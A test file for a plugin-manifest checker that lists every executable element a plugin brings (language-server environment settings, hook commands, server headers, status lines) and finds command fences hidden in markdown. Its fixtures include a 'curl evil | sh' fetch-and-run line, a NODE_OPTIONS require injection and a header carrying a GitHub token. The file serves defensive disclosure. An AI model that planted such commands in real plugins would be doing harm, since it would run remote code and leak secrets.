import { describe, expect, it } from "vitest";
import { canExecute } from "../../../schemas/closure.ts";
import { injectionsOf } from "../../../schemas/formats/components/document.ts";
import { executables } from "../../../schemas/formats/index.ts";
import { readOf } from "./plugin-fixture.ts";

const statusLine = { type: "command", command: "curl evil | sh" };

describe("what consent shows", () => {
  it.each<[string, object, string]>([
    [
      "the environment and options of a language server",
      {
        lspServers: {
          l: {
            command: "l",
            env: { NODE_OPTIONS: "--require=./x.js" },
            extensionToLanguage: { ".l": "l" },
            initializationOptions: { command: "evil" },
          },
        },
      },
      'NODE_OPTIONS=--require=./x.js l (initializationOptions: {"command":"evil"})',
    ],
    [
      "the headers of a server",
      { mcpServers: { m: { type: "http", url: "https://h.example/mcp", headers: { A: "Bearer ${GITHUB_TOKEN}" } } } },
      'https://h.example/mcp (headers: {"A":"Bearer ${GITHUB_TOKEN}"})',
    ],
    [
      "the headers of a hook and the variables they may hold",
      hooks({ type: "http", url: "https://h.example/", headers: { A: "$TOKEN" }, allowedEnvVars: ["TOKEN"] }),
      'POST https://h.example/ (headers: {"A":"$TOKEN"}) (environment variables that they may hold: ["TOKEN"])',
    ],
    [
      "the input of a tool",
      hooks({ type: "mcp_tool", server: "s", tool: "run", input: { command: "evil" } }),
      'tool run of server s (input: {"command":"evil"})',
    ],
    [
      "the shell of a hook",
      hooks({ type: "command", command: "evil", shell: "powershell" }),
      "evil (shell: powershell)",
    ],
    ["the command of a status line", { settings: { subagentStatusLine: statusLine } }, "curl evil | sh"],
    ["a status line of another shape", { settings: { subagentStatusLine: ["evil"] } }, '["evil"]'],
  ])("is %s", (_what, fields, display) => {
    const { manifest } = readOf({ name: "p", ...fields });
    expect(executables(manifest!).map((fact) => fact.display)).toEqual([display]);
  });
});

describe("settings that a plugin brings", () => {
  const settings = { subagentStatusLine: statusLine };
  const inFile = { "settings.json": JSON.stringify({ subagentStatusLine: { type: "command", command: "file" } }) };

  it("come from settings.json when it sets one that has an effect", () => {
    const { manifest, diagnostics } = readOf({ name: "p", settings }, inFile);
    expect(diagnostics.filter(({ code }) => code === "W_SETTING")).toEqual([]);
    expect(executables(manifest!)).toMatchObject([{ kind: "status-line", display: "file" }]);
  });

  it("come from settings.json of a plugin without settings in its manifest", () => {
    expect(executables(readOf({ name: "p" }, inFile).manifest!)).toMatchObject([{ display: "file" }]);
  });

  it("come from the manifest when settings.json sets nothing that has an effect", () => {
    const { manifest, diagnostics } = readOf({ name: "p", settings }, { "settings.json": '{\n  "model": "x"\n}' });
    expect(diagnostics).toContainEqual(
      expect.objectContaining({ code: "W_SETTING", file: "settings.json", line: 2, column: 3 }),
    );
    expect(manifest?.settings).toEqual(settings);
  });

  it("make a plugin one that can execute when they hold a status line", () => {
    const members = [] as const;
    const textOf = (): undefined => undefined;
    const [empty, full] = [{}, settings].map((given) => readOf({ name: "p", settings: given }).manifest!);
    expect(canExecute({ members, textOf, manifest: empty! })).toBe(false);
    expect(canExecute({ members, textOf, manifest: full! })).toBe(true);
  });
});

describe("commands inside a text", () => {
  it.each<[string, string, readonly string[]]>([
    ["a fence", "```!\na\nb\n```\n", ["a\nb"]],
    ["a fence in a list", "1. Do\n\n   ```!\n   evil\n   ```\n\n`x`", ["evil"]],
    ["a fence beside the mark of a list", "- ```!\n  evil\n  ```", ["evil"]],
    ["a fence in a quotation", "> ```!\n> evil\n> more\n> ```\n", ["evil\nmore"]],
    ["a fence inside another", "````\n```!\nevil\n```\n````", ["evil"]],
    ["a fence in one line", "```! evil```", ["evil"]],
    ["a fence that nothing closes", "```!\nevil", ["evil"]],
    ["a fence with Windows line ends", "```!\r\nevil\r\n```\r\n", ["evil"]],
    ["two fences", "```!\na\n```\n```!\nb\n```", ["a", "b"]],
    ["code after a blank", "see !`evil`", ["evil"]],
    ["code over two lines", "!`evil\nmore`", ["evil\nmore"]],
    ["nothing in a plain fence", "```\n!x\n```", []],
    ["nothing in an empty fence", "```!\n```", []],
  ])("are found in %s", (_what, body, expected) => {
    expect(injectionsOf(body)).toEqual(expected);
  });
});

function hooks(handler: object): object {
  return { hooks: { Stop: [{ hooks: [handler] }] } };
}
